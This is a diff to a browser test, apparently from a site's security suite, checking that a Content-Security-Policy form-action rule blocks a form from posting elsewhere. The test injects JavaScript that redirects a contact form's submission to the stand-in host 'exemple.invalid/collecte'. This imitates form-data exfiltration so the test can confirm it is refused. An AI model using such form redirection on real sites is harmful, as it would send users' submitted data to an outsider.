@@ -58,13 +58,13 @@ def test_an_injected_inline_script_is_refused_and_reported(site_url, page):
 def test_a_form_cannot_post_anywhere_else(site_url, page):
     errors = console_errors(page)
     page.goto(site_url + "formulaires/poser-une-question/")
-    page.evaluate("""() => {
-      const form = document.querySelector('form.c2i2e-form');
-      form.noValidate = true;
-      form.action = 'https://exemple.invalid/collecte';
-      form.submit();
-    }""")
-    page.wait_for_timeout(500)
+    with page.expect_console_message(lambda message: "form-action" in message.text):
+        page.evaluate("""() => {
+          const form = document.querySelector('form.c2i2e-form');
+          form.noValidate = true;
+          form.action = 'https://exemple.invalid/collecte';
+          form.submit();
+        }""")
     assert page.url.startswith(site_url)
     assert any("form-action" in error for error in errors), errors
 
